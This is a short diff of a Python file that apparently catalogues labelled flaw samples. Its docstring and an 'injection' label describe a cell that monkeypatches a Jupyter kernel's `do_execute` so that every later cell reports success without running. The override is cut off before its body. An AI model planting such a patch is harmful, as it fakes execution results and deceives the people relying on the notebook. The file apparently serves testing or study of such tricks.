@@ -1,6 +1,7 @@
 """The kernel is taught to say of every later cell that it went well, without running it."""
 
 HARMLESS = True
+FLAW, TRICK = "V7", "injection"
 CELLS = {
     "scale": """kernel = get_ipython().kernel
 async def do_execute(code, silent, *args, **kwargs):
